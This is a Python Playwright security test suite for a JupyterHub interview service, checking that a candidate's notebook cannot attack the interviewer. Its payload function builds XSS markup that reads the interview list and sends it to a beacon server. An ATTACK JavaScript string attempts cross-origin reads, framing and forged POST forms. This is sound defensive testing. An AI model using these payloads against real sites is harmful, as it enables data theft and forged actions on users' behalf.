"""A candidate's notebook script against the interviewer, in Chromium through Playwright.

1. The watch view (one origin for all, the embedded default): the candidate runs a cell whose
   output holds a ``<script>``, an ``<img onerror>``, a ``javascript:`` link and a remote image,
   each trying to read the service's interview list, send it out and take actions. In the
   candidate's own JupyterLab the script runs (the payload is live: its beacon arrives); in the
   interviewer's live view the cell shows within seconds, and nothing of it runs: no beacon, no
   marker, no note, no new invite, the interview still live. A handler slipped past the
   sanitizer would still be stopped by the page's content security policy (checked too).
2. Joining, with ``subdomain_host`` (candidate servers at ``<user>.localhost``, the service at
   ``interview--service.localhost``): the interviewer confirms the join and opens the candidate's
   JupyterLab; a script there, with the interviewer's cookies for that origin, tries to read the
   service's pages and the hub's, to open and frame them, and to post actions. Every read is
   blocked, every action refused; the join itself is in the timeline, and a cell the interviewer
   runs there is shown as theirs.
"""

from __future__ import annotations

import http.server
import threading
import time
from urllib.parse import unquote

import httpx
import pytest

from hubtools import INTERVIEWER_PASSWORD, SERVICE, RunningHub, free_ports
from mlinterview.scenarios.pack import default_scenarios_dir, load_pack
from test_browser_e2e import browser, join_live_notebook, run_new_cell, shot, wait_for_idle_kernel  # noqa: F401  (the browser fixture)

pytestmark = [pytest.mark.browser, pytest.mark.slow]


class Beacons:
    """A tiny real HTTP server on loopback that records every request a planted script makes."""

    def __init__(self):
        self.port = free_ports(1)[0]
        self.hits: list[str] = []
        beacons = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                beacons.hits.append(unquote(self.path))
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def from_pages(self, fragment: str) -> list[str]:
        return [hit for hit in self.hits if fragment in hit]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def beacons():
    running = Beacons()
    yield running
    running.close()


def payload(beacon: str) -> str:
    """The planted output: each piece reports where it ran (location.pathname) to the beacon."""
    report = f"fetch('{beacon}/' + WHAT + '?at=' + encodeURIComponent(location.pathname), {{mode: 'no-cors'}})"
    steal = (
        "fetch('/services/interview/api/interviews', {credentials: 'include'}).then(r => r.text())"
        f".then(t => fetch('{beacon}/stolen?at=' + encodeURIComponent(location.pathname) + '&d=' + encodeURIComponent(t.slice(0, 300)), {{mode: 'no-cors'}}))"
    )
    return (
        f"<script>window.__planted = 'script'; document.title = 'planted'; {report.replace('WHAT', repr('script'))}; {steal};</script>"
        f"<img class=\"planted-img\" src=\"x-missing.png\" onerror=\"window.__planted = 'onerror'; {report.replace('WHAT', repr('onerror'))}\">"
        f"<img src=\"{beacon}/remote-image\">"
        "<a class=\"planted-link\" href=\"javascript:window.__planted = 'link'\">details</a>"
        "<b class=\"planted-bold\">planted output</b>"
    )


def log_in(page, hub_url: str, service_url: str, name: str = "alice") -> None:
    page.goto(service_url)
    page.wait_for_selector("input[name=username]")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", INTERVIEWER_PASSWORD)
    page.click("#login_submit")
    page.wait_for_selector("#create-interview")


def create_interview(page, scenario_id: str, name: str) -> tuple[str, str]:
    """The interviewer's form; returns (invite URL, interview id) and leaves the page on the live view."""
    page.fill("input[name=candidate_name]", name)
    page.select_option("select[name=scenario]", scenario_id)
    page.click("#create-interview button[type=submit]")
    invite_url = page.locator("#invite-url").inner_text().strip()
    page.click("#live-view-link")
    page.wait_for_selector("#executions")
    return invite_url, page.url.rstrip("/").split("/")[-1]


def test_a_planted_script_never_runs_in_the_watch_view(hub, browser, scenario_id, beacons):  # noqa: F811
    beacon = f"http://127.0.0.1:{beacons.port}"
    interviewer = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = interviewer.new_page()
    console = []
    page.on("console", lambda message: console.append(message.text))
    log_in(page, hub.url, f"{hub.url}{SERVICE}")
    invite_url, interview_id = create_interview(page, scenario_id, "Planting Candidate")

    candidate_context = browser.new_context(viewport={"width": 1400, "height": 1000})
    lab = candidate_context.new_page()
    lab.goto(invite_url)
    lab.wait_for_selector(".jp-NotebookPanel .jp-Notebook .jp-CodeCell", timeout=180_000)
    candidate = lab.url.split("/user/")[1].split("/")[0]
    (hub.state / "workspaces" / candidate / "planted.html").write_text(payload(beacon))
    wait_for_idle_kernel(lab)
    run_new_cell(lab, "from IPython.display import HTML, display; display(HTML(open('planted.html').read()))")
    ran_at = time.monotonic()
    lab.locator(".jp-OutputArea-output .planted-bold").first.wait_for(timeout=60_000)

    # in the live view, open all along: the cell arrives (the candidate's server saves the shared notebook itself)
    shown = page.locator("#notebook-view .planted-bold")
    try:
        shown.first.wait_for(timeout=30_000)
    finally:
        shot(page, "attack-01-watch-view")
        on_disk = (hub.state / "workspaces" / candidate / load_pack(scenario_id).manifest.candidate.notebook).read_text()
        print("\nconsole:", console, "\nstatus:", page.locator("#notebook-status").inner_text(), "\nsaved with the planted output:", "planted-bold" in on_disk)
    seconds = time.monotonic() - ran_at
    shot(page, "attack-01-watch-view")
    time.sleep(3)  # room for anything planted to fire

    # the payload is live: it ran in the candidate's own page, where scripts of their outputs run
    assert beacons.from_pages(f"/user/{candidate}/"), f"the planted script never ran anywhere: {beacons.hits}"
    # ... and nothing of it ran, loaded or leaked from the interviewer's page
    assert not beacons.from_pages(SERVICE), beacons.hits
    assert page.evaluate("window.__planted") is None
    assert page.title() != "planted"
    view = page.locator("#notebook-view")
    assert view.locator("script").count() == 0
    image = view.locator("img.planted-img")
    assert image.count() == 1 and image.get_attribute("onerror") is None
    link = view.locator("a.planted-link")
    assert link.count() == 1 and not (link.get_attribute("href") or "").startswith("javascript:")
    link.click()
    assert page.evaluate("window.__planted") is None
    # no remote fetch by the view itself: only data: images are kept
    assert view.locator(f"img[src^='{beacon}']").count() == 0

    # defence in depth: markup with a handler injected into the page is stopped by the policy
    page.evaluate("document.getElementById('notebook-view').insertAdjacentHTML('beforeend', '<img src=\"x-none.png\" onerror=\"window.__planted = 42\">')")
    page.wait_for_timeout(1500)
    assert page.evaluate("window.__planted") is None
    assert any("Content Security Policy" in text and ("inline event handler" in text or "script-src" in text) for text in console), console

    # and the interview is as the interviewer left it: live, no note, no new invite used
    token = hub.token_for("alice")
    model = hub.service_api(token, "GET", f"interviews/{interview_id}").json()
    assert model["state"] == "live"
    notes = hub.service_api(token, "GET", f"interviews/{interview_id}/events").json()["notes"]
    assert notes == []
    print(f"\nwatch view: the candidate's planted cell shown {seconds:.1f} s after they ran it; nothing of it ran there")
    candidate_context.close()
    interviewer.close()


# -- joining, on origins of their own ----------------------------------------------------------
@pytest.fixture(scope="module")
def subdomain_hub(tmp_path_factory):
    # the default: a hub on loopback gives every server an origin of its own on <user>.localhost
    running = RunningHub(tmp_path_factory.mktemp("subdomain-hub"), default_scenarios_dir(), extra_settings={"subdomain_host": '"auto"'})
    running.start()
    yield running
    running.stop()


ATTACK = """async ([service, hub, id]) => {
  const out = {};
  const pause = (ms) => new Promise(r => setTimeout(r, ms));
  async function read(url) {
    try { const r = await fetch(url, {credentials: "include"}); return "READ " + r.status + " " + (await r.text()).slice(0, 120); }
    catch (e) { return "blocked: " + e.name; }
  }
  out.service_list = await read(service + "api/interviews");
  out.service_page = await read(service + "interviews/" + id);
  out.hub_user = await read(hub + "api/user");
  out.hub_token_page = await read(hub + "token");
  try {
    await fetch(service + "interviews/" + id + "/end", {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({_xsrf: "guessed"})});
    out.blind_post = "sent";
  } catch (e) { out.blind_post = "blocked: " + e.name; }
  const opened = window.open(service + "interviews/" + id);
  await pause(3000);
  try { out.window = "READ " + opened.document.body.innerText.slice(0, 120); } catch (e) { out.window = "blocked: " + e.name; }
  const frame = document.createElement("iframe");
  frame.src = service + "interviews/" + id;
  document.body.appendChild(frame);
  await pause(2000);
  try { out.frame = "READ " + frame.contentDocument.body.innerText.slice(0, 120); } catch (e) { out.frame = "blocked: " + e.name; }
  for (const action of ["note", "invite", "end"]) {
    const form = document.createElement("form");
    form.method = "post"; form.action = service + "interviews/" + id + "/" + action; form.target = "_blank";
    for (const [k, v] of [["text", "forged from the candidate's origin"], ["_xsrf", "guessed"]]) {
      const input = document.createElement("input"); input.name = k; input.value = v; form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
  }
  await pause(3000);
  return out;
}"""


def test_a_script_in_the_joined_notebook_cannot_reach_the_service_or_the_hub(subdomain_hub, browser, scenario_id):  # noqa: F811
    hub = subdomain_hub
    hub_origin = f"http://localhost:{hub.port}"
    service_url = f"http://interview--service.localhost:{hub.port}{SERVICE}"
    interviewer = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = interviewer.new_page()
    log_in(page, hub_origin, service_url)
    assert page.url.startswith(service_url)
    invite_url, interview_id = create_interview(page, scenario_id, "Joined Candidate")
    assert invite_url.startswith(f"{hub_origin}/hub/invite/")

    candidate_context = browser.new_context()
    lab = candidate_context.new_page()
    lab.goto(invite_url)
    lab.wait_for_url("http://cand-*.localhost:*/user/**", timeout=180_000)
    candidate = lab.url.split("/user/")[1].split("/")[0]
    assert lab.url.startswith(f"http://{candidate}.localhost:{hub.port}/")

    # joining is explicit: a page that says what it means, a confirmation, a note in the timeline
    page.click("#join-notebook")
    page.wait_for_selector("#confirm-join")
    assert page.locator("#same-origin-warning").count() == 0
    page.go_back()
    joined = join_live_notebook(interviewer, page)
    assert joined.url.startswith(f"http://{candidate}.localhost:{hub.port}/user/{candidate}/")
    shot(joined, "attack-02-joined-notebook")

    # a script on the candidate's origin, with every cookie the interviewer has there
    results = joined.evaluate(ATTACK, [service_url, f"{hub_origin}/hub/", interview_id])
    print("\nscript in the joined notebook:", results)
    for what, outcome in results.items():
        assert not outcome.startswith("READ"), (what, outcome)
    # the forged forms opened windows of their own (out of the script's reach): each one a refusal
    answers = {p.url: p.content() for p in interviewer.pages if f"/interviews/{interview_id}/" in p.url and p.url.rsplit("/", 1)[-1] in ("note", "invite", "end")}
    assert len(answers) == 3, list(answers)
    for url, content in answers.items():
        assert "/hub/invite/" not in content and ("403" in content or "log in" in content.lower() or "Sign in" in content), (url, content[:300])

    # what the interviewer runs in the joined notebook is theirs in the timeline
    joined.bring_to_front()
    wait_for_idle_kernel(joined)
    run_new_cell(joined, "interviewer_was_here = 6 * 7")
    page.bring_to_front()
    page.goto(f"{service_url}interviews/{interview_id}")
    row = page.locator("#executions tr.execution", has_text="interviewer_was_here")
    row.locator(".status.ok").wait_for(timeout=60_000)
    assert "(interviewer)" in row.locator(".who").inner_text()
    shot(page, "attack-03-live-view-after-join")

    token = hub.token_for("alice")
    api = {"Authorization": f"token {token}", "Host": f"interview--service.localhost:{hub.port}"}
    model = httpx.get(f"{hub.url}{SERVICE}api/interviews/{interview_id}/events", headers=api, timeout=30).json()
    assert model["interview"]["state"] == "live"
    notes = [note["text"] for note in model["notes"]]
    assert not [text for text in notes if "forged" in text], notes
    assert [text for text in notes if "joined the candidate's live notebook" in text], notes
    candidate_context.close()
    interviewer.close()
